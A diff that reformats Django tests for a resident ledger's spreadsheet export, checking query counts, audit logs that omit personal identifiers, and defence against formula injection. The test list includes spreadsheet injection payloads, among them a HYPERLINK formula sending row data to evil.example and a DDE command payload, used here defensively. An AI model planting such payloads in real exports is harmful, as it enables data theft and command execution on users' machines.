@@ -57,7 +57,14 @@ def test_export_query_count_is_constant(world, login, django_assert_max_num_quer
     with django_assert_max_num_queries(20) as small:
         c.get(reverse("ledger:export"))
     for i in range(40):
-        p = create_object(Person, actor=None, household=world.hh_a2, name=f"导出{i}", relation="child", id_number=make_id(800 + i, "20120101"))
+        p = create_object(
+            Person,
+            actor=None,
+            household=world.hh_a2,
+            name=f"导出{i}",
+            relation="child",
+            id_number=make_id(800 + i, "20120101"),
+        )
         p.tags.add(world.tag_party)
     with django_assert_max_num_queries(len(small.captured_queries)):
         r = c.get(reverse("ledger:export"))
@@ -67,8 +74,16 @@ def test_export_query_count_is_constant(world, login, django_assert_max_num_quer
 # Values a spreadsheet would run as formulas if they were written as formula cells: Excel's and
 # LibreOffice's prefixes (= + - @, the full-width ＝ a Chinese keyboard types, OpenFormula's of:=),
 # a hyperlink that sends the row away, DDE.
-FORMULAS = ['=HYPERLINK("http://evil.example/?d="&G2,"详情")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)",
-            "=cmd|' /C calc'!A0", "＝1+1", "of:=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&G2,"详情")',
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "=cmd|' /C calc'!A0",
+    "＝1+1",
+    "of:=1+1",
+]
 
 
 def typed_cells(response, sheet_name=C.SHEET):
@@ -80,11 +95,19 @@ def typed_cells(response, sheet_name=C.SHEET):
 @pytest.mark.django_db
 def test_export_writes_every_cell_as_text_so_no_value_becomes_a_formula(world, login):
     for i, name in enumerate(FORMULAS):
-        create_object(Person, actor=None, household=world.hh_a2, name=name, relation="child", id_number=make_id(850 + i, "20120101"))
+        create_object(
+            Person,
+            actor=None,
+            household=world.hh_a2,
+            name=name,
+            relation="child",
+            id_number=make_id(850 + i, "20120101"),
+        )
     cells = typed_cells(login(world.users.community).get(reverse("ledger:export")))
     assert {v for v, _t, _q in cells} >= set(FORMULAS)
     assert {t for _v, t, _q in cells} == {"s"}
-    # and Excel's quote prefix (a leading apostrophe) where a spreadsheet would see a formula, so editing the cell keeps it text
+    # and Excel's quote prefix (a leading apostrophe) where a spreadsheet would see a formula, so editing the cell
+    # keeps it text
     assert {v for v, _t, quoted in cells if quoted} == set(FORMULAS) - {"of:=1+1"}
 
 
@@ -101,11 +124,22 @@ def test_each_export_is_audited_with_who_what_filter_and_how_many_rows_without_p
     assert f"grid={world.grid_a.pk}" in search.changes["filter"][1] and "q=" in search.changes["filter"][1]
     assert "tag=党员" in tagged.changes["filter"][1] and "gender=male" in tagged.changes["filter"][1]
     # the record belongs to the place whose residents left, so that place's staff see it
-    assert (search.grid_id, search.community_id, search.object_repr) == (world.grid_a.pk, world.c1.pk, str(world.grid_a))
+    assert (search.grid_id, search.community_id, search.object_repr) == (
+        world.grid_a.pk,
+        world.c1.pk,
+        str(world.grid_a),
+    )
     assert AuditLog.objects.restrict(world.users.community).filter(pk=search.pk).exists()
     assert not AuditLog.objects.restrict(world.users.other_community).filter(pk=search.pk).exists()
     text = repr([(log.object_repr, log.note, log.changes) for log in (search, tagged)])
-    for secret in (target.id_number, target.id_number[-4:], target.id_number[6:14], target.name, target.phone, target.phone[-4:]):
+    for secret in (
+        target.id_number,
+        target.id_number[-4:],
+        target.id_number[6:14],
+        target.name,
+        target.phone,
+        target.phone[-4:],
+    ):
         assert secret not in text
 
 
